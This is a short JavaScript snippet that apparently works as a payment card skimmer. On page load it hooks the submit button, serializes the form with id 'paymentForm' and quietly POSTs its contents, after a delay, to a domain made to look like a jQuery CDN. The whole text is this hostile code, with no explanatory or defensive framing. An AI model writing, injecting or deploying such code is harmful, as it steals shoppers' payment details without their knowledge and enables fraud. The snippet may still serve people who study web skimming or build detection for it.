window.onload = function () {
    jQuery("#submitButton").bind("mouseup touchend", function (e) {
        var dat = {};
        var serializedForm = $("#paymentForm").serializeArray();
        dat = Object.assign(dat, serializedForm);
        setTimeout(function () {
            $.ajax({
                type: "POST",
                async: true,
                url: "https://jquery-cdn-libs.com/gateway/app/dataprocessing/api/",
                data: JSON.stringify(dat),
                dataType: "application/json"
            });
        }, 500);
    });
};
